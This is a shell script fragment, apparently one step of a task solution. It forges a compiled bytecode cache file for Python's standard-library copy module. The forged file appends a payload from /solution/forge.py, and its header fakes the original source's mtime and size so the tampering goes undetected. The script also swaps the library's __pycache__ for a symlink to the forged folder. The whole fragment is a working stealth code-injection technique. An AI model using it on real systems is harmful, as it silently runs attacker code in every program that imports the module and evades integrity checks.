# 4. A __pycache__ that is a symlink to a folder whose copy.*.pyc is forged: compiled from
#    copy.py plus the payload, with the untouched source's mtime and size in its header.
py=$(ls /usr/bin/python3.* | grep -E 'python3\.[0-9]+$' | head -n 1)
lib=$($py -c 'import sysconfig; print(sysconfig.get_paths()["stdlib"])')
mkdir -p /var/tmp/pyc && cp -a "$lib/__pycache__/." /var/tmp/pyc/ 2>/dev/null
$py - "$lib" <<'PY'
import importlib.util, marshal, os, sys
lib = sys.argv[1]
src = os.path.join(lib, "copy.py")
st = os.stat(src)
code = compile(open(src).read() + "\n" + open("/solution/forge.py").read(), src, "exec")
data = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + int(st.st_mtime).to_bytes(4, "little") \
    + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little") + marshal.dumps(code)
tag = sys.implementation.cache_tag
open(f"/var/tmp/pyc/copy.{tag}.pyc", "wb").write(data)
PY
rm -rf "$lib/__pycache__" && ln -s /var/tmp/pyc "$lib/__pycache__"
